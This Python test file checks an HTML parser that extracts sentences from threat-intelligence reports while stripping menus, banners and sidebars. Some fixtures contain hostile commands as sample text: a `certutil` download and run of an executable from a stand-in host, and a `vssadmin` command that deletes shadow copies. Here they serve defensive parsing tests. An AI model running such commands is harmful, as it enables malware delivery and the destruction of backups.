"""HTML: the report, without the site around it."""

from __future__ import annotations

import pytest

from tram_ext.documents import parse

_REPORT = "<p>Slate Otter sends invoices. It then drops <code>svchost.exe</code>.</p>"
_TWO = ["Slate Otter sends invoices.", "It then drops svchost.exe."]


def _sentences(html):
    return parse(html.encode(), "report.html").sentence_texts()


@pytest.mark.parametrize("tag", ["nav", "footer", "aside", "script", "style", "noscript", "form", "template", "button"])
def test_the_site_around_the_report_is_left_out(tag):
    assert _sentences(f"<body><{tag}>Something else entirely.</{tag}>{_REPORT}</body>") == _TWO


def test_an_article_stands_for_its_page():
    assert _sentences(
        f"<body><div>Cookie notice.</div><article><header><h1>Title</h1></header>{_REPORT}</article>"
    ) == [
        "Title",
        *_TWO,
    ]


@pytest.mark.parametrize(
    "attributes",
    [
        'id="onetrust-banner-sdk"',
        'class="site-cookie-banner is-open"',
        'class="CookieConsent"',
        'id="gdpr_notice"',
        'role="dialog"',
    ],
)
def test_consent_banners_are_left_out(attributes):
    banner = f"<div {attributes}><p>We value your privacy. Accept all.</p></div>"

    assert _sentences(f"<body>{banner}<div>{_REPORT}</div></body>") == _TWO


def test_a_page_that_says_that_it_has_a_banner_is_none():
    assert _sentences(f"<body class='cookie-banner-shown'><h1>Slate Otter</h1>{_REPORT}</body>")[1:] == _TWO
    assert _sentences(f"<body><div class='cookie-theft'>{_REPORT}</div></body>") == _TWO


def test_what_an_article_sets_off_is_kept_and_what_it_links_to_is_not():
    callout = "<aside><p>Key finding: the group steals the cookies of sessions.</p></aside>"
    related = '<aside><h3>Read more</h3><a href="/1">Five ways to patch a server</a></aside>'

    assert _sentences(f"<body><article>{_REPORT}{callout}{related}</article></body>") == [
        *_TWO,
        "Key finding: the group steals the cookies of sessions.",
    ]


@pytest.mark.timeout(60)
@pytest.mark.parametrize("tags", ["<aside>", "<article><aside>", "<div class=cookie-banner>"])
def test_thousands_of_nested_asides_and_banners_end(tags):
    page = f"<article>{tags * 2_000}{'It waits for more orders. ' * 2_000}</article>"

    assert set(_sentences("<p>The end of it.</p>" * 9_000 + page)) <= {"It waits for more orders.", "The end of it."}


def test_soft_hyphens_and_spaces_of_no_width_are_gone():
    assert _sentences("<p>It exfil&shy;trates data to evil&#8203;[.]example.</p>") == [
        "It exfiltrates data to evil[.]example."
    ]


def test_code_in_blocks_of_its_own_is_read_line_by_line():
    html = "<pre><table><tr><td>certutil -urlcache -f hxxp://x/a.exe<br>start a.exe</td></tr></table></pre>"

    assert _sentences(html) == ["certutil -urlcache -f hxxp://x/a.exe", "start a.exe"]


def test_a_teaser_does_not_stand_for_its_page():
    long = "<p>" + "The report goes on with many more details of what was seen. " * 20 + "</p>"

    assert len(_sentences(f"<body><article><p>Read this.</p></article>{long}</body>")) == 21


def test_blocks_are_sentences_of_their_own_and_inline_elements_are_not():
    html = "<h2>What is it? A loader</h2><ul><li>one <b>b</b>old</li><li>two</li></ul><table><tr><td>a</td><td>b</td></tr></table>"

    assert _sentences(html) == ["What is it? A loader", "one bold", "two", "a", "b"]


def test_code_is_read_line_by_line():
    html = "<pre>vssadmin delete shadows /all /quiet\nwhoami. Twice.</pre><div>rule x {<br>strings:<br>}</div>"

    assert _sentences(html)[:4] == ["vssadmin delete shadows /all /quiet", "whoami. Twice.", "rule x {", "strings:"]


def test_the_title_and_the_declared_encoding_are_used():
    html = "<html><head><meta charset=windows-1251><title> Отчёт  один </title></head><body><p>Группа напала.</p></body></html>"

    document = parse(html.encode("cp1251"), "report.html")

    assert document.title == "Отчёт один"
    assert document.text == "Группа напала."


def test_a_page_of_links_without_an_article_loses_its_menus():
    menu = "".join(f'<div class="menu"><a href="/{n}">Product number {n} of our shop</a></div>' for n in range(60))
    body = "".join(
        f"<p>The group called Slate Otter used technique number {n} to reach the server of its victim, "
        "and it removed the logs afterwards, which made the analysis harder.</p>"
        for n in range(12)
    )
    sentences = _sentences(
        f"<html><body><div>{menu}</div><div id=content><h1>Slate Otter</h1>{body}</div></body></html>"
    )

    assert sum("technique number" in sentence for sentence in sentences) == 12
    assert not any("Product number" in sentence for sentence in sentences)


def test_ten_thousand_nested_elements_do_not_break_the_walk():
    assert _sentences("<div>" * 10_000 + "Still here." + "</div>" * 10_000) == ["Still here."]
